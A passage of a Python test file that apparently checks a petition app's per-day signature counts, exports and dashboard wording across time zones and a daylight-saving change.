    # 07:30 UTC is 23:30 the day before in California; 08:30 is half past midnight.
    ("America/Los_Angeles", [("2026-12-06", 2), ("2026-12-07", 2)]),
    # India is five and a half hours ahead: 18:29 UTC is 23:59 there, 18:31 is 00:01.
    ("Asia/Kolkata", [("2026-12-06", 1), ("2026-12-07", 2), ("2026-12-08", 1)]),
])
def test_days_are_counted_in_the_services_time_zone(database_url, zone, days):
    moments = [datetime(2026, 12, 6, 18, 29, tzinfo=UTC), datetime(2026, 12, 7, 7, 30, tzinfo=UTC),
               datetime(2026, 12, 7, 8, 30, tzinfo=UTC), datetime(2026, 12, 7, 18, 31, tzinfo=UTC)]
    check_days(database_url, zone, moments, days, date(2026, 12, 7))


def test_the_day_summer_time_ends_has_25_hours(database_url):
    """On 1 November 2026 California's clocks go back at 2 a.m.: its day runs 07:00 to 08:00
    UTC the next day, an hour longer than the day before."""
    moments = [datetime(2026, 11, 1, 6, 59, tzinfo=UTC), datetime(2026, 11, 1, 7, 0, tzinfo=UTC),
               datetime(2026, 11, 2, 7, 30, tzinfo=UTC), datetime(2026, 11, 2, 8, 0, tzinfo=UTC)]
    days = [("2026-10-31", 1), ("2026-11-01", 2), ("2026-11-02", 1)]
    check_days(database_url, "America/Los_Angeles", moments, days, date(2026, 11, 1))


def check_days(database_url, zone, moments, days, exported_day):
    """Signatures at these moments fall on these days, in the dashboard and in an export of one day."""
    with demo_app(database_url, TIME_ZONE=zone) as app:
        signed_at(app, moments)
        by_day, campaign = days_counted(app)
        assert [(day.isoformat(), count) for day, count in by_day] == days
        # An export's days are the same days: the one that ends at midnight there; and its rows
        # say when, there, so that a spreadsheet shows each on that day.
        with app.app_context():
            exported = db.session.scalars(Scope(campaign, None, exported_day, exported_day).rows()).all()
            assert len(exported) == dict(days)[exported_day.isoformat()]
            assert all(exports.created_date(row).startswith(exported_day.isoformat()) for row in exported)
            assert all(datetime.fromisoformat(exports.created_date(row)) == row.created_at for row in exported)


def test_the_dashboard_says_in_which_time_zone_its_days_begin(database_url, runner):
    with demo_app(database_url, TIME_ZONE="America/Los_Angeles") as app:
        signed_at(app, [datetime(2026, 12, 7, 7, 30, tzinfo=UTC)])
        client = app.test_client()
        sign_in(client, "olga", make_account(app.test_cli_runner(), "olga"), lang="es")
        page = client.get("/dashboard/campaigns/demo-petition?lang=es").get_data(as_text=True)
        assert page.count("Los días empiezan a la medianoche (zona horaria America/Los Angeles).") == 2
